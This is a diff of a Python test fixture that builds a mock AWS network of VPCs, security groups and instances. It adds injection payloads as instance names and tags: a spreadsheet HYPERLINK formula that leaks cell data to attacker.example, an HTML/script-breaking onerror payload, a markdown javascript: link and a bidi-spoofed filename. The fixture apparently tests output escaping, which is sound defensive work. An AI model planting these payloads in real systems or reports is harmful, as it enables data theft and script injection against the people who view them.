@@ -16,7 +16,7 @@ from cryptography.x509.oid import NameOID
 
 from tests.standin.server import ACCOUNT, StandIn
 
-__all__ = ["NOW", "REGIONS", "build"]
+__all__ = ["HOSTILE_NAMES", "NOW", "REGIONS", "build"]
 
 TOKYO, VIRGINIA = REGIONS = ("ap-northeast-1", "us-east-1")
 NOW = datetime(2026, 11, 2, 1, 0, tzinfo=UTC)
@@ -25,6 +25,13 @@ NOW = datetime(2026, 11, 2, 1, 0, tzinfo=UTC)
 ANYWHERE, ANYWHERE_IPV6 = "0.0.0.0/0", "::/0"
 SAML = f"arn:aws:iam::{ACCOUNT}:saml-provider/corp-idp"
 DIRECTORY = "d-9567000001"
+
+HOSTILE_NAMES = (
+    '=HYPERLINK("http://attacker.example/?x="&A1,"給与明細")',
+    "</style></script><img src=x onerror=\"document.title='pwned'\">",
+    "[printer](javascript:alert(1)) **new** | `x`",
+)
+"""What whoever may tag an instance could write there."""
 
 SHADOW_POLICY = """\
 // Trial since October: log what would be refused, refuse nothing yet.
@@ -106,12 +113,21 @@ class Place:
             GroupId=group, IpPermissions=[self._permission(peer, span, text)]
         )
 
-    def confine(self, group: str, peer: str, *, text: str) -> None:
-        """Replace the outbound rules of a group by one that allows all traffic to a peer."""
+    def empty(self, group: str) -> None:
+        """Revoke all rules of a group."""
         filters = [{"Name": "group-id", "Values": [group]}]
         rules = self.ec2.describe_security_group_rules(Filters=filters)["SecurityGroupRules"]
-        outbound = [r["SecurityGroupRuleId"] for r in rules if r["IsEgress"]]
-        self.ec2.revoke_security_group_egress(GroupId=group, SecurityGroupRuleIds=outbound)
+        for egress, revoke in (
+            (True, self.ec2.revoke_security_group_egress),
+            (False, self.ec2.revoke_security_group_ingress),
+        ):
+            ids = [r["SecurityGroupRuleId"] for r in rules if r["IsEgress"] == egress]
+            if ids:
+                revoke(GroupId=group, SecurityGroupRuleIds=ids)
+
+    def confine(self, group: str, peer: str, *, text: str) -> None:
+        """Replace the rules of a group by one that allows all traffic to a peer."""
+        self.empty(group)
         self.ec2.authorize_security_group_egress(
             GroupId=group, IpPermissions=[self._permission(peer, ("-1", 0, 0), text)]
         )
@@ -243,6 +259,7 @@ def build(aws: StandIn) -> None:
 def _production(tokyo: Place) -> None:
     """Build the production VPC with the model endpoint and the contractors' one."""
     prod = tokyo.vpc("本番 prod", "10.20.0.0/16")
+    tokyo.empty(tokyo.default_group(prod))
     vpn_a = tokyo.subnet(prod, "prod-vpn-a", "10.20.1.0/24", "a")
     vpn_c = tokyo.subnet(prod, "prod-vpn-c", "10.20.2.0/24", "c")
     app_a = tokyo.subnet(prod, "prod-app-a", "10.20.11.0/24", "a")
@@ -387,18 +404,12 @@ def _production(tokyo: Place) -> None:
 
     # Texts nobody should run. Names of groups allow few characters, tags any.
     formula = tokyo.group(prod, "=1+1", "@SUM(1+1)*cmd")
-    tokyo.admit(formula, clients, 8080, text="=SUM(A1:A9)")
-    tokyo.instance(
-        app_a,
-        '=HYPERLINK("http://attacker.example/","payroll")',
-        formula,
-        ip="10.20.11.90",
-        tags={
-            "note": "</style></script><img src=x onerror=\"document.title='pwned'\">",
-            "markdown": "[click](javascript:alert(1)) **bold** | cell | `code` $x^2$",
-            "bidi": "invoice\u202egpj.exe",
-        },
-    )
+    tokyo.admit(formula, "10.20.2.0/24", 8080, text="=SUM(A1:A9)")
+    tags = {
+        "note": "</style></script><img src=x onerror=\"document.title='pwned'\">",
+        "markdown": "| cell | `code` $x^2$ <!-- ",
+    }
+    tokyo.instance(app_a, "invoice\u202egpj.exe", formula, ip="10.20.11.90", tags=tags)
 
     _shared_services(tokyo, prod, clients)
     aws = tokyo.aws
@@ -475,7 +486,7 @@ def _office(tokyo: Place) -> None:
     office = tokyo.vpc("office-tools", "10.30.0.0/16")
     subnet = tokyo.subnet(office, "office-a", "10.30.1.0/24", "a")
     default = tokyo.default_group(office)
-    tokyo.tag(default, "ofis-default (do not delete!!)")
+    tokyo.tag(default, "office default (do not delete!!)")
     certificate = tokyo.certificate("vpn.office.example.com", days=120, number=3)
     legacy = tokyo.endpoint(
         "office-vpn-2019",
@@ -496,6 +507,8 @@ def _office(tokyo: Place) -> None:
     tokyo.authorize(legacy, "10.30.0.0/16", text="Everyone in the directory")
     tokyo.instance(subnet, "wiki", default, ip="10.30.1.20")
     tokyo.instance(subnet, "ci-runner", default, ip="10.30.1.21")
+    for number, name in enumerate(HOSTILE_NAMES):
+        tokyo.instance(subnet, name, default, ip=f"10.30.1.{30 + number}")
     files = tokyo.group(office, "file-server", "SMB")
     tokyo.admit(files, "10.30.0.0/16", 445, text="Whole VPC")
     tokyo.instance(subnet, "file-server ファイルサーバー", default, files, ip="10.30.1.22")
